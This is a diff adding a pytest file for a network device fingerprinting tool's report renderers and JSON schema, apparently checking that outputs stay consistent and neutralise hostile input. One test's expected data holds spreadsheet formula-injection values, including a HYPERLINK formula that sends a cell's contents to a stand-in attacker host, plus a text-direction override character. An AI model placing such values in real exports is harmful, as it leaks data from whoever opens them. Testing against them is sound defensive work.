@@ -1,0 +1,109 @@
+"""The renderer registry, the --format choices and the JSON contract stay in step."""
+
+from __future__ import annotations
+
+import argparse
+import json
+
+import jsonschema
+import pytest
+
+from netfinger.cli import build_parser
+from netfinger.report import RENDERERS, RenderOptions, Renderer
+from netfinger.report.model import SCHEMA_ID, Report
+from netfinger.report.output import FILE_OPTIONS, add_output_arguments
+from netfinger.report.samples import HOSTILE_MODEL, large_report, sample_report
+from netfinger.report.schema import report_schema, schema_errors
+
+
+def _format_choices(parser: argparse.ArgumentParser) -> tuple[str, ...]:
+    for action in parser._actions:
+        if "--format" in action.option_strings:
+            assert action.choices is not None
+            return tuple(action.choices)
+    raise AssertionError("no --format option")
+
+
+def test_every_format_choice_has_a_renderer_and_back() -> None:
+    parser = argparse.ArgumentParser()
+    add_output_arguments(parser)
+    choices = _format_choices(parser)
+    assert set(choices) == set(RENDERERS)
+    for name in choices:
+        renderer = RENDERERS[name]
+        assert isinstance(renderer, Renderer)
+        assert renderer.name == name
+
+
+def test_every_file_option_names_a_renderer() -> None:
+    parser = argparse.ArgumentParser()
+    add_output_arguments(parser)
+    for name in FILE_OPTIONS:
+        assert name in RENDERERS
+        assert parser.parse_args([f"--{name}", "x"]).__dict__[name] == "x"
+
+
+def test_report_command_offers_the_same_formats() -> None:
+    parser = build_parser()
+    for name in RENDERERS:
+        assert parser.parse_args(["report", "r.json", "--format", name]).format == name
+    with pytest.raises(SystemExit):
+        parser.parse_args(["report", "r.json", "--format", "xml"])
+
+
+@pytest.mark.parametrize("name", sorted(RENDERERS))
+def test_every_renderer_renders_the_sample_with_all_hosts(name: str) -> None:
+    report = sample_report()
+    text = RENDERERS[name].render(report, RenderOptions(why=True))
+    for host in report.hosts:
+        assert host.evidence.ip is not None
+        assert host.evidence.ip in text
+    assert "\x1b" not in text  # no raw escape byte reaches any output
+
+
+def test_schema_is_valid_draft_2020_12() -> None:
+    jsonschema.Draft202012Validator.check_schema(report_schema())
+    assert report_schema()["properties"]["schema"]["const"] == SCHEMA_ID
+
+
+def test_json_output_validates_and_round_trips() -> None:
+    report = sample_report()
+    text = RENDERERS["json"].render(report, RenderOptions())
+    data = json.loads(text)
+    jsonschema.validate(data, report_schema())
+    assert text.isascii()
+    again = Report.from_dict(data)
+    assert again.to_dict() == data
+    hostile = next(h for h in data["hosts"] if h["model"] == HOSTILE_MODEL)
+    assert hostile["model"] == HOSTILE_MODEL  # the data is kept exactly; only its encoding is inert
+    assert data["summary"] == {
+        "hosts": 4,
+        "banned": 2,
+        "vulnerable": 2,
+        "by_manufacturer": {"@SUM(1+1)\u202e": 1, "Axis": 1, "Dahua": 1, "Hikvision": 1},
+        "by_brand": {'=HYPERLINK("http://evil.invalid/?x="&A1,"click")': 1, "Axis": 1, "Dahua": 1, "Hikvision": 1},
+    }
+
+
+def test_json_carries_the_verdict_fields() -> None:
+    data = json.loads(RENDERERS["json"].render(sample_report(), RenderOptions()))
+    hik = next(h for h in data["hosts"] if h["manufacturer"] == "Hikvision")
+    assert hik["banned"] is True
+    assert hik["vulnerabilities"][0]["id"] == "CVE-2017-7921"
+    assert hik["vulnerabilities"][0]["kev"] is True
+    assert {"rule": "hikvision.sadp", "field": "sadp.DeviceDescription", "value": "DS-2CD2142FWD-I"} in hik["evidence"]
+
+
+def test_schema_rejects_drift() -> None:
+    data = sample_report().to_dict()
+    data["hosts"][0]["confidence"] = 1.5
+    del data["hosts"][1]["banned"]
+    data["scan"]["surprise"] = True
+    errors = schema_errors(data)
+    assert len(errors) == 3
+    assert any("confidence" in e for e in errors)
+    assert any("banned" in e for e in errors)
+
+
+def test_large_report_is_valid() -> None:
+    jsonschema.validate(large_report(50).to_dict(), report_schema())
